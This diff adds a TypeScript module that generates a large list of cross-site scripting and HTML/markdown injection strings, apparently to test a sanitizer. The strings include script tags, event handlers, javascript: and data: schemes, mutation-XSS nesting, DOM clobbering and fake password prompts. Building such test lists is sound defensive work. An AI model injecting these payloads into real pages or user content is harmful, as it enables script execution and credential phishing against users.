@@ -1,0 +1,128 @@
+const RUN = "alert(1)";
+
+const EVENTS =
+  "onerror onload onclick onmouseover onfocus onblur onpointerdown ontoggle onstart onbegin onend onanimationend onwheel onscroll oninput onbeforeinput oncopy onpaste ondrag onresize".split(
+    " ",
+  );
+const TAGS =
+  "img svg body video audio iframe details marquee input select textarea object embed form math style link meta base template".split(
+    " ",
+  );
+const SCHEMES = [
+  "javascript:",
+  "JaVaScRiPt:",
+  " javascript:",
+  "java\tscript:",
+  "java\nscript:",
+  "&#106;avascript:",
+  "&#x6A;avascript:",
+  "javascript&colon;",
+  "\u0001javascript:",
+  "vbscript:",
+  "data:text/html,",
+  "data:text/html;base64,",
+  "file:///",
+  "blob:",
+  "filesystem:",
+  "//example.org/",
+  "ftp://example.org/",
+  "view-source:",
+  "jar:",
+  "ws://example.org/",
+];
+
+const SINGLE = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src=//example.org/x.js></script>`,
+  `<script\n>${RUN}</script\n>`,
+  `<<script>${RUN}//<</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<style>@import 'https://example.org/x.css';</style>`,
+  `<style>*{background:url(javascript:${RUN})}</style>`,
+  `<p style="background:url(https://example.org)">x</p>`,
+  `<p style="position:fixed;inset:0">over everything</p>`,
+  `<div class="wz-dialog primary">x</div>`,
+  `<a href="https://example.org" style="position:fixed;inset:0">x</a>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="https://example.org" onclick="${RUN}">x</a>`,
+  `<a id="location" name="document">x</a>`,
+  `<form id="body"><input name="firstChild"></form>`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<base href="https://example.org/">`,
+  `<link rel="stylesheet" href="https://example.org/x.css">`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<img src="x" srcset="javascript:${RUN} 1x">`,
+  `<img src=x:${RUN} onerror=eval(src)>`,
+  `<img/src/onerror=${RUN}>`,
+  `<img src=\`x\` onerror=${RUN}>`,
+  `<image src=x onerror=${RUN}>`,
+  `<isindex action="javascript:${RUN}">`,
+  `<keygen autofocus onfocus=${RUN}>`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `<title><img src=x onerror=${RUN}></title>`,
+  `<!--<img src="--><img src=x onerror=${RUN}>">`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><x onload=${RUN}/>`,
+  `<x onclick=${RUN}>click</x>`,
+  `<wz-approvals-host></wz-approvals-host>`,
+  `<slot name="x"></slot>`,
+  `<dialog open><form method=dialog>Enter your password</form></dialog>`,
+  `<input type=password placeholder=Password>`,
+  `</div></template><img src=x onerror=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><svg/onload=${RUN}>`,
+  `\`\`\`<img src=x onerror=${RUN}>\`\`\``,
+  `\`\`\`"><script>${RUN}</script>\nlet x\n\`\`\``,
+  `\`\`\`js class=x onclick=${RUN}\nx\n\`\`\``,
+  `![x](x "onerror=${RUN}")`,
+  `![x" onerror="${RUN}](x)`,
+  `![x](javascript:${RUN})`,
+  `[x](<javascript:${RUN}>)`,
+  `[x](https://example.org "onmouseover=${RUN}")`,
+  `[x](https://example.org" onclick="${RUN})`,
+  `[a]: javascript:${RUN}\n\n[a]`,
+  `[<img src=x onerror=${RUN}>](https://example.org)`,
+  `<javascript:${RUN}>`,
+  `<https://example.org/"onmouseover="${RUN}>`,
+  `# <img src=x onerror=${RUN}>`,
+  `- <svg onload=${RUN}>`,
+  `> <script>${RUN}</script>`,
+  `| <img src=x onerror=${RUN}> |\n|-|\n| <svg onload=${RUN}> |`,
+  `**<b onmouseover=${RUN}>x</b>**`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `\\<script>${RUN}\\</script>`,
+  `\u202e<script>${RUN}</script>`,
+  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
+  `<img src=x onerror\u000b=${RUN}>`,
+];
+
+/** Texts that try to have a script run, to load something, or to look like the page. */
+export function payloads(): readonly string[] {
+  const handlers = EVENTS.map((event, at) => `<${TAGS[at % TAGS.length]} src=x ${event}=${RUN}>`);
+  const tags = TAGS.map((tag) => `<${tag} src="javascript:${RUN}" href="javascript:${RUN}" onload="${RUN}">x</${tag}>`);
+  const inside = TAGS.map((tag) => `text **before** <${tag} autofocus onfocus=${RUN}> _after_`);
+  const links = SCHEMES.map((scheme) => `[x](${scheme}${RUN})`);
+  const raw = SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">x</a>`);
+  const images = SCHEMES.map((scheme) => `![x](${scheme}${RUN})`);
+  return [...new Set([...SINGLE, ...handlers, ...tags, ...inside, ...links, ...raw, ...images])];
+}
